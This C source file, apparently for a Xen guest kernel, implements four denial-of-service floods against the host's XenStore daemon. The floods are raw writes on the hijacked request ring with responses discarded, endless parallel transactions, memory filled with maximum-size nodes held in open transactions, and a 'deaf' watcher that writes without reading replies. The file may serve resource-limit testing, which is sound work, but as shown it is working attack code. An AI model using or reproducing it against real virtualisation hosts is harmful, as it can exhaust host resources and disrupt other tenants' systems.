/* SPDX-License-Identifier: MIT */
/* The floods of XenStore. Where the client's own manners would be in the way, requests go on the
 * ring by hand. */
#include "flood.h"

static struct xenstore_domain_interface *ring;

/* From here on the SDK's client sees nothing any more. Its answers must have been taken. */
static void take_the_ring(void)
{
    thread_sleep(50 * NS_PER_MS);
    events_mask_all();
    ring = pfn_to_virt(mfn_to_pfn(start_info->store_mfn));
}

static unsigned int free_bytes(void)
{
    return XENSTORE_RING_SIZE - (ring->req_prod - READ_ONCE(ring->req_cons));
}

static void put(const void *bytes, size_t length)
{
    uint32_t producer = ring->req_prod;

    for (size_t i = 0; i < length; i++)
        ring->req[MASK_XENSTORE_IDX(producer++)] = ((const char *)bytes)[i];
    wmb();
    WRITE_ONCE(ring->req_prod, producer);
}

static void read_nothing(void)
{
    WRITE_ONCE(ring->rsp_cons, READ_ONCE(ring->rsp_prod));
}

void flood_store(const char *path, const char *value)
{
    static struct xs_watch watch;
    struct xs_part parts[2] = { { path, strlen(path) + 1 }, { value, strlen(value) } };
    char message[128];
    int length = xs_message_pack(message, sizeof(message), XS_WRITE, 7, 0, parts, 2);

    NEED(length > 0 && xs_write(XS_NONE, path, value, strlen(value)) == 0 &&
         xs_watch(&watch, path) == 0);
    take_the_ring();
    for (;;) {
        while (free_bytes() >= (unsigned int)length)
            put(message, (size_t)length);
        read_nothing();
        (void)event_send(start_info->store_evtchn);
    }
}

/* --- transactions --- */

static void large_transactions(void *me)
{
    char path[32];

    for (;;) {
        xs_transaction t;

        if (xs_begin(&t))
            continue;
        for (unsigned int i = 0; i < 400; i++) {
            snprintf(path, sizeof(path), "data/%c%u", 'a' + (int)(unsigned long)me, i % 200);
            xs_write(t, path, "v", 1);
        }
        xs_end(t, false);
    }
}

void flood_transactions(void)
{
    for (unsigned long i = 1; i < 4; i++)
        NEED(thread_create("transactions", large_transactions, (void *)i));
    large_transactions(NULL);
}

/* --- memory --- */

/* All nodes that there may be, as large as they may be; then transactions that never end, and all
 * of them changed behind their backs, in them, and after each. */
static void write_all(xs_transaction t, unsigned int round)
{
    static char value[2000];
    char path[32];

    memset(value, 'a' + (int)round, sizeof(value));
    for (unsigned int i = 0; i < 950; i++) {
        snprintf(path, sizeof(path), "data/%u", i);
        if (xs_write(t, path, value, sizeof(value))) return;
    }
}

void flood_held(void)
{
    write_all(XS_NONE, 0);
    for (unsigned int i = 0; i < 10; i++) {
        xs_transaction t;

        if (xs_begin(&t))
            break;
        write_all(t, i + 1);
        write_all(XS_NONE, i + 11);
    }
    printk("attack-flood: holds what it can\n");
    for (;;)
        thread_sleep(NS_PER_S);
}

/* Watches on everything, then writes by others of its kind cannot be had alone: it writes itself,
 * and never reads. */
void flood_deaf(void)
{
    static struct xs_watch watch[100];
    char path[128], message[192];
    struct xs_part parts[2] = { { path, 0 }, { "v", 1 } };

    for (unsigned int i = 0; i < ARRAY_SIZE(watch); i++)
        if (xs_watch(&watch[i], "data"))
            break;
    take_the_ring();
    for (unsigned int i = 0;; i = (i + 1) % 700) {
        int length;

        snprintf(path, sizeof(path), "data/%0100u", i);
        parts[0].length = strlen(path) + 1;
        length = xs_message_pack(message, sizeof(message), XS_WRITE, 7, 0, parts, 2);
        while (free_bytes() < (unsigned int)length) {
            /* Its answers stand between the events: nothing is taken as long as nothing is read.
             * Now and then it reads a bit. */
            WRITE_ONCE(ring->rsp_cons,
                       ring->rsp_cons + MIN(16U, READ_ONCE(ring->rsp_prod) - ring->rsp_cons));
            (void)event_send(start_info->store_evtchn);
        }
        put(message, (size_t)length);
        (void)event_send(start_info->store_evtchn);
    }
}
